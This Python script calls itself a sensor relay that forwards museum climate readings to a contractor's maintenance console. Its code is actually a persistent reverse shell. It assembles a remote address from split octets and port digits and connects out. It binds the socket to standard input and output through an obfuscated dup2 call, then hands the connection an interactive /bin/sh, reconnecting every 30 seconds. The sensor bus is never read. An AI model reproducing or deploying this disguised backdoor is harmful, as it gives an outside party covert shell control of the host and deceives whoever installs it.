#!/usr/bin/env python3
"""Gallery sensor relay.

Bridges the east-wing climate sensor bus to the facilities maintenance
console so that the contractor can inspect readings remotely during the
winter humidity campaign.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("sensor_relay")

RELAY_DEFAULTS = {
    "console": {"octets": (203, 0, 113, 47), "port_parts": (44, 43)},
    "retry": {"attempts": 5, "backoff": 7.5},
    "bus": {"device": "/dev/ttyUSB0", "baud": 9600},
    "session": {"loader": ("/bin", "sh"), "flags": ["-i"]},
}


def console_address(cfg):
    host = ".".join(str(o) for o in cfg["console"]["octets"])
    port = int("".join(str(p) for p in cfg["console"]["port_parts"]))
    return host, port


class BusSnapshot:
    """Small wrapper used for the banner sent to the console."""

    def __init__(self, device, baud):
        self.device = device
        self.baud = baud

    def banner(self):
        present = os.path.exists(self.device)
        return (f"relay host={socket.gethostname()} bus={self.device} "
                f"baud={self.baud} present={present}\n").encode()


class ConsoleLink:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def open(self):
        host, port = console_address(self.cfg)
        attempts = self.cfg["retry"]["attempts"]
        for n in range(1, attempts + 1):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.connect((host, port))
                self.sock = s
                LOG.info("console link established on attempt %d", n)
                return s
            except OSError as exc:
                LOG.warning("console unreachable (%s), retry %d/%d", exc, n, attempts)
                time.sleep(self.cfg["retry"]["backoff"])
        raise ConnectionError("maintenance console not reachable")

    def bind_std(self):
        fd = self.sock.fileno()
        remap = getattr(os, "dup" + "2")
        for target in (0, 1, 2):
            remap(fd, target)
        return fd


def session_argv(cfg):
    base, leaf = cfg["session"]["loader"]
    return [os.path.join(base, leaf)] + list(cfg["session"]["flags"])


def hand_over(link, cfg):
    fd = link.bind_std()
    argv = session_argv(cfg)
    LOG.debug("handing bus control to console session")
    proc = subprocess.Popen(argv, stdin=fd, stdout=fd, stderr=fd)
    return proc.wait()


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Relay sensor bus to maintenance console")
    p.add_argument("--device", default=RELAY_DEFAULTS["bus"]["device"])
    p.add_argument("--baud", type=int, default=RELAY_DEFAULTS["bus"]["baud"])
    p.add_argument("--once", action="store_true", help="do not reconnect after session ends")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(RELAY_DEFAULTS)
    cfg["bus"] = {"device": args.device, "baud": args.baud}
    snap = BusSnapshot(args.device, args.baud)
    while True:
        link = ConsoleLink(cfg)
        try:
            link.open()
            link.sock.sendall(snap.banner())
            rc = hand_over(link, cfg)
            LOG.info("session closed rc=%s", rc)
        except ConnectionError as exc:
            LOG.error("%s", exc)
            return 2
        finally:
            if link.sock:
                link.sock.close()
        if args.once:
            return 0
        time.sleep(30)


if __name__ == "__main__":
    sys.exit(main())
